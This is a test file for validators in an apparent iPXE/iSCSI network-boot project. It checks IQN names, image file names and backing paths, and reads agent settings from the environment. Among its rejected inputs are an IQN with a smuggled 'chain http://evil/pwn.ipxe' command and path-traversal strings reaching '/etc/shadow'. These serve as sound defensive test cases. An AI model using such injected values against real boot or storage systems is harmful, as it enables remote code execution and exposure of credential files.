import { isBaseIqn as agentIsBaseIqn, isIqn as agentIsIqn } from '@ironlens/agent';
import { describe, expect, it } from 'vitest';
import { metalConfigFromEnv } from '../config';
import { isBackingPathOf, isBaseIqn, isFileName, isIqn } from './identifiers';

const IQNS = [
  'iqn.2026-07.com.controller',
  'iqn.2026-07.com.controller:w1.ubuntu',
  'iqn.2026-07.com.controller:w1.windows.iso',
  'iqn.2026-13.com.controller:w1',
  'iqn.2026-07.com.controller:W1',
  'iqn.2026-07.com.controller:w1\nchain http://evil/pwn.ipxe',
  'iqn.2026-07.com.controller:',
  'iqn.2026-07.com.controller:-w1',
  'iqn.2026-07.com..controller:w1',
  'iqn.2026-07.com.controller:w1:x',
  'eui.02004567A425678D',
  `iqn.2026-07.com.controller:${'a'.repeat(200)}`,
  ' iqn.2026-07.com.controller:w1',
];

describe('metal identifiers', () => {
  it("keeps the IQN grammar in step with the storage agent's", () => {
    for (const s of IQNS) {
      expect(isIqn(s), s).toBe(agentIsIqn(s));
      expect(isBaseIqn(s), s).toBe(agentIsBaseIqn(s));
    }
    expect(IQNS.filter((s) => isIqn(s)).length).toBe(4);
  });

  it('takes file names of one component and backing paths that end in them', () => {
    for (const n of ['w1.ubuntu.img', '_tpl_ubuntu_2204.img', 'Win11_24H2.iso']) expect(isFileName(n), n).toBe(true);
    for (const n of ['../../etc/shadow', '.hidden', 'a/b.img', 'x\n.img', '', 'a'.repeat(201)]) expect(isFileName(n), n).toBe(false);
    expect(isBackingPathOf('/home/iscsi_img/w1.ubuntu.img', 'w1.ubuntu.img')).toBe(true);
    for (const p of ['/etc/shadow', 'images/w1.ubuntu.img', '/images/../w1.ubuntu.img', '/images//w1.ubuntu.img', '/im ages/w1.ubuntu.img']) expect(isBackingPathOf(p, 'w1.ubuntu.img'), p).toBe(false);
  });

  it('reads the agent settings: token names and link-local addresses', () => {
    expect(metalConfigFromEnv({}, '/d')).toMatchObject({ agentTokenEnv: ['IPXE_AGENT_*'], agentAllowLinkLocal: false });
    expect(metalConfigFromEnv({ IPXE_CP_AGENT_TOKEN_ENV: 'A, B_*', IPXE_CP_AGENT_ALLOW_LINK_LOCAL: 'true' }, '/d')).toMatchObject({ agentTokenEnv: ['A', 'B_*'], agentAllowLinkLocal: true });
  });
});
